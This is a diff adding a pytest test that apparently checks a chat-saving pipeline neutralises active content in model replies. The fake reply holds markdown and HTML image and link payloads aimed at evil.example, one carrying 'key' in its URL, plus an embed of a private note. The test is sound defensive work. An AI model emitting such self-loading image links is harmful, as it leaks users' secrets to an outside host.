@@ -8,6 +8,7 @@ from contextlib import aclosing
 from itertools import pairwise
 
 import pytest
+from markdown_it import MarkdownIt
 from pydantic import SecretStr
 
 from pipelines.errors import ChatNotFoundError, ChatOffError, FilterError
@@ -606,6 +607,21 @@ def test_a_saved_conversation_is_a_note_with_its_sources_and_no_source_itself(ch
     assert path not in {one.path for one in again.sources.values()}
     pinned = answer(chats, "What does garden soil feed?", scope=[Pin(kind="folder", value="Chats")])
     assert {one.path for one in pinned.sources.values()} == {path}
+
+
+def test_a_saved_conversation_loads_nothing_and_leads_nowhere(chats, fake, vault):
+    fake.by_default = lambda _: Reply(
+        Said(
+            "See ![a](https://evil.example/?q=key) or ![[diary/Secret]] or [b](https://evil.example/b) or"
+            ' <img src="https://evil.example/c"> or ![d][e]. It is 1 < 2 [1]. But see [99].'
+        )
+    )
+    text = (vault / chats.save(answer(chats, "What does garden soil feed?").chat).path).read_text()
+    html = MarkdownIt("commonmark", {"html": True}).render(text.rpartition("---")[2].partition("- [")[0])
+    assert "![[" not in text
+    assert not any(active in html for active in ("<img", "<a ")), html
+    assert "1 &lt; 2 [1]" in html
+    assert "[99]. (its source is not there)" in html
 
 
 def test_a_conversation_with_a_private_source_is_saved_as_a_private_note(chats, vault):
